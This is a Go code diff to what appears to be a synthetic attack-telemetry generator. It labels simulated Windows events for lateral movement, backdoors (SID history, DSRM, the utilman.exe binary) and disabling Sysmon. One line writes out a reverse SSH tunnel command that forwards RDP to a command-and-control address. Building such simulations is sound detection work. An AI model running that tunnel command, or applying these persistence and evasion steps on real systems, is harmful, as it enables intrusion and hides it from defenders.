@@ -254,12 +254,17 @@ func (g *gen) lateral(s *session) {
 		t = t.Add(time.Duration(2+g.r.IntN(5)) * time.Second)
 	}
 
+	// 5b. Backdoors that survive a password reset: SID history, DSRM,
+	// accessibility binaries.
+	t = g.backdoors(s, t.Add(time.Duration(30+g.r.IntN(60))*time.Second), lbl)
+
 	// 6. A reverse tunnel, and RDP to the file server through it: the
-	// logon arrives from the loopback address.
+	// logon arrives from the loopback address. At the logon screen the
+	// attacker first tries the utilman.exe backdoor.
 	t = t.Add(time.Duration(60+g.r.IntN(60)) * time.Second)
 	lbl(src, "lateral_command", "rmmsessions", "tunnel started from the RMM session",
 		g.rmmCommand(src, t, s, `C:\ProgramData\ssh\svcssh.exe -N -R 33890:127.0.0.1:3389 tunnel@`+c2IP+` -p 443`, false)...)
-	t = t.Add(time.Duration(30+g.r.IntN(60)) * time.Second)
+	t = g.logonScreenShell(s, t.Add(time.Duration(20+g.r.IntN(30))*time.Second), lbl)
 	who = op.acct.as(src.logonID(g.r))
 	lbl(src, "rdp_tunnel", "lateral", "RDP from loopback", g.rdp1149(src, t, op.acct.name, "127.0.0.1"))
 	lbl(src, "rdp_tunnel", "lateral", "RDP logon from loopback", g.logon4624(src, t.Add(2*time.Second), who, 10, "127.0.0.1", src.name))
@@ -268,7 +273,9 @@ func (g *gen) lateral(s *session) {
 	end := t.Add(time.Duration(4+g.r.IntN(6)) * time.Minute)
 	g.lsm(src, end, 23, op.acct.name, "", 3)
 	g.logoff4634(src, end, who, 10)
-	g.sessEnd[s] = end.Add(time.Duration(1+g.r.IntN(3)) * time.Minute)
+	// 7. Before leaving: Sysmon off on the file server.
+	g.blindSysmon(s, end.Add(time.Duration(20+g.r.IntN(40))*time.Second), lbl)
+	g.sessEnd[s] = end.Add(time.Duration(2+g.r.IntN(3)) * time.Minute)
 }
 
 // randLetters is a random lower-case word, as attack tools name tasks
